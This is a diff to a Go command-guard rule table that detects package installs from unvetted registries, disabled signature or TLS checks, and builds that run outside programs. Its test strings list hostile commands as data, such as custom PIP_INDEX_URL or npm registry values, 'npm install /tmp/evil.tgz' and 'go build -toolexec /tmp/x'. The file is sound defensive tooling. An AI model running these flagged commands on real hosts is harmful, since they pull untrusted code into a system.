@@ -32,6 +32,15 @@ func packageScripts() table {
 			},
 		},
 		{
+			Key:    "variable that names another registry",
+			Harms:  guard.Host,
+			Match:  match{on: onAssign, test: registryAssign},
+			Why:    "installs what another server calls by a known name",
+			Remedy: "use the registry the project is set up for: `npm install left-pad`",
+			Hits:   []string{"PIP_INDEX_URL=http://x.example/simple pip install p", "npm_config_registry=http://x.example npm i x", "GOPROXY=http://x.example go get x", "PIP_TRUSTED_HOST=x.example pip install p", "UV_INDEX_URL=https://x.example/s uv sync"},
+			Passes: []string{"npm install left-pad", "GOPROXY=direct go get x", "GOPROXY=off go build ./...", "GOPROXY=https://proxy.golang.org,direct go mod tidy", "PIP_INDEX_URL=https://pypi.org/simple pip install x", "PIP_NO_CACHE_DIR=1 pip install x"},
+		},
+		{
 			Key:   "package install without its checks",
 			Harms: guard.Host,
 			Match: either(
@@ -44,7 +53,8 @@ func packageScripts() table {
 				all(runs("pacman", "yay", "paru"), either(given("--nosave-sig"), says("SigLevel"))),
 				all(runs("gem"), given("--trust-policy", "-P"), says("NoSecurity")),
 				all(runs("npm", "pnpm", "yarn"), given("--unsafe-perm", "--strict-ssl=false", "--no-strict-ssl", "--script-shell", "--ignore-scripts=false", "--no-verify-ssl")),
-				told(verbs{programs: "npm pnpm yarn", forms: []string{"config set strict-ssl|script-shell|unsafe-perm|cafile|ignore-scripts|node-options|shell|proxy|https-proxy|git", "set strict-ssl|script-shell|unsafe-perm|node-options"}}),
+				told(verbs{programs: "npm pnpm yarn", forms: []string{"config set strict-ssl|script-shell|unsafe-perm|node-options|shell", "config set ignore-scripts false", "set strict-ssl|script-shell|unsafe-perm|node-options"}}),
+				all(runs("go"), told(verbs{programs: "go", forms: []string{"env"}}), given("-w"), says("GOSUMDB=off", "GOINSECURE=", "-insecure", "-toolexec")),
 				all(runs("pip", "python", "uv"), given("--no-verify-ssl")),
 				told(verbs{programs: "pip pip3", forms: []string{"config set *trusted-host|*cert|*proxy"}}, verbs{programs: "poetry", forms: []string{"config certificates.*"}}),
 				all(runs("brew"), given("--no-quarantine", "--force-bottle")),
@@ -64,6 +74,28 @@ func packageScripts() table {
 			Passes: []string{
 				"sudo apt-get install -y jq", "sudo dpkg -i ./tool_1.0_amd64.deb", "snap install --classic code", "code --install-extension golang.go", "npm config set fund false", "apk add --no-cache curl",
 				"flatpak install -y flathub org.gimp.GIMP", "npm install --ignore-scripts", "dnf install -y gcc", "gem install rails -P HighSecurity",
+			},
+		},
+		{
+			Key:   "build that runs another program",
+			Harms: guard.Host,
+			Match: either(
+				all(runs("go"), given("-toolexec", "--toolexec", "-vettool", "--vettool"), when(runsForeign)),
+				all(runs("go"), told(verbs{programs: "go", forms: []string{"generate"}}), when(namesForeignModule)),
+				all(runs("mvn", "mvnw", "mvnd"), says("exec-maven-plugin", "exec:exec", "antrun:run", "-Dexec.executable", "groovy-maven-plugin", "-Dmaven.ext.class.path", "-javaagent")),
+				all(runs("gradle", "gradlew"), given("-I", "--init-script"), when(foreignFile)),
+				all(runs("npm", "pnpm", "yarn"), told(verbs{programs: "npm pnpm yarn", takes: "--prefix --registry --tag -w --workspace --filter --cwd -C", forms: []string{"install|i|add|in|ins|isntall", "global add"}}), when(foreignPackage)),
+				all(runs("pip", "gem", "uv"), told(verbs{programs: "pip gem uv", forms: []string{"install", "pip install", "tool install"}}), when(foreignPackage)),
+			),
+			Why:    "runs a program or a package's scripts from outside the project",
+			Remedy: "build it as it is: `go build ./...`",
+			Hits: []string{
+				"go build -toolexec '/tmp/x --' ./...", "go vet -vettool=/tmp/x ./...", "go generate x.example/...", "mvn org.codehaus.mojo:exec-maven-plugin:exec -Dexec.executable=/tmp/x", "gradle -I /tmp/x.gradle build",
+				"npm install /tmp/evil.tgz", "pip install /tmp/x.whl", "npm i ~/Downloads/x.tgz",
+			},
+			Passes: []string{
+				"go build ./...", "go generate ./...", "mvn -q exec:java", "gradle build", "npm install ./packages/shared", "npm install left-pad", "pip install dist/x.whl", "gradle -I ./init.gradle build", "pip install -r requirements.txt",
+				"pip install -e /srv/app --dry-run", "npm install -g pnpm", "go vet -vettool=$(which shadow) ./...", "mvn exec:java -Dexec.mainClass=a.B",
 			},
 		},
 		{
@@ -226,6 +258,93 @@ func registrySetting(name string, args []shell.Word) bool {
 		}
 	}
 	return false
+}
+
+// registryAssign holds for a variable that makes an install use a registry nobody vouches for.
+func registryAssign(c *ctx, i int) (span, bool) {
+	for _, a := range c.cmd(i).Assigns {
+		switch name := strings.ToUpper(a.Name); name {
+		case "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX_URL", "UV_DEFAULT_INDEX", "UV_EXTRA_INDEX_URL", "UV_INDEX", "NPM_CONFIG_REGISTRY", "YARN_NPM_REGISTRY_SERVER", "YARN_REGISTRY", "GOPROXY", "GONOSUMDB_URL",
+			"BUNDLE_MIRROR__ALL", "HOMEBREW_BOTTLE_DOMAIN", "HOMEBREW_CORE_GIT_REMOTE", "CONDA_CHANNELS", "COMPOSER_MIRROR_PATH_REPOS":
+			if strings.Contains(a.Value.Text, "://") && !knownRegistry(a.Value.Text) {
+				return at(a.Value), true
+			}
+		case "PIP_TRUSTED_HOST", "GOINSECURE", "UV_INSECURE_HOST", "NPM_CONFIG_STRICT_SSL", "HOMEBREW_NO_VERIFY_ATTESTATIONS":
+			if v := a.Value.Text; v != "" && v != "true" {
+				return at(a.Value), true
+			}
+		}
+	}
+	return span{}, false
+}
+
+// runsForeign holds when a tool that go is told to run is not known to be a program's name.
+func runsForeign(c *ctx, i int) (span, bool) {
+	args := c.args(i)
+	for k, w := range args[1:] {
+		name, value, has := cut(strings.TrimLeft(w.Text, "-"), '=')
+		if name != "toolexec" && name != "vettool" {
+			continue
+		}
+		v := w
+		if has {
+			v = w.Slice(len(w.Text) - len(value))
+		} else if k+2 < len(args) {
+			v = args[k+2]
+		}
+		if len(v.Holes) == 1 && v.Holes[0].Kind == shell.Output && strings.HasPrefix(v.Holes[0].Name, "which ") {
+			return span{}, false
+		}
+		return at(v), len(v.Holes) > 0 || strings.Contains(v.Text, "/") || strings.Contains(v.Text, "sh")
+	}
+	return span{}, false
+}
+
+// namesForeignModule holds when go is given a package that is not one of this module.
+func namesForeignModule(c *ctx, i int) (span, bool) {
+	var buf [8]int
+	args := c.args(i)
+	for _, k := range spoken(args, "-run -skip -C -tags -mod", buf[:0])[1:] {
+		first, rest, _ := cut(args[k].Text, '/')
+		if rest != "" && strings.IndexByte(first, '.') > 0 && !strings.HasPrefix(first, "..") {
+			return at(args[k]), true
+		}
+	}
+	return span{}, false
+}
+
+// foreignFile holds when a word is the path of a file outside the work tree.
+func foreignFile(c *ctx, i int) (span, bool) {
+	for _, w := range c.args(i)[1:] {
+		if t := w.Text; t != "" && (t[0] == '/' || t[0] == '~') {
+			for _, t := range c.targets(w, c.cmd(i).Dir) {
+				if !c.inTree(t) {
+					return at(w), true
+				}
+			}
+		}
+	}
+	return span{}, false
+}
+
+// foreignPackage holds when a package to install is an archive outside the work tree.
+func foreignPackage(c *ctx, i int) (span, bool) {
+	for _, w := range c.args(i)[1:] {
+		t := w.Text
+		if t == "" || t[0] != '/' && t[0] != '~' && !strings.HasPrefix(t, "../") && !strings.HasPrefix(t, "file:/") {
+			continue
+		}
+		for _, ext := range [...]string{".tgz", ".tar.gz", ".whl", ".zip", ".gem", ".tar.bz2", ".egg", ".tar"} {
+			if strings.HasSuffix(t, ext) {
+				for _, t := range c.targets(w, c.cmd(i).Dir) {
+					if !c.inTree(t) {
+						return at(w), true
+					}
+				}
+			}
+		}
+	}
+	return span{}, false
 }
 
 // installsFresh holds for a package file from a folder for temporary files that the same text has fetched.
